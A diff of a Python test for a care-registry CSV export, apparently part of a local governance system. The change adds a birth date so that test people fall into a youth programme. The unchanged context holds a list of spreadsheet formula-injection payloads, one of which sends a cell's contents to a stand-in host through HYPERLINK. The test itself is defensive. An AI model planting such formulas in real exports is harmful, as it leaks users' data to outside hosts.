@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date
 
 from gridgov.care import services
 from gridgov.registry.models import Person
@@ -16,7 +17,7 @@ EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A
 
 def test_caseload_csv_prefixes_formula_text(users, make_person, client_for):
     for i, text in enumerate(EVIL):
-        person = make_person(f"人{i}", grid_code=HOME)
+        person = make_person(f"人{i}", grid_code=HOME, birth=date(2008, 5, 17))  # 重点青少年: 6-25
         Person.objects.filter(pk=person.pk).update(name=text)
         services.enrolment_create(actor=users["social_worker"], programme="youth", person_id=person.pk,
                                   start_date=TODAY, level="", fields=PROGRAMME_FIELDS["youth"], today=TODAY)
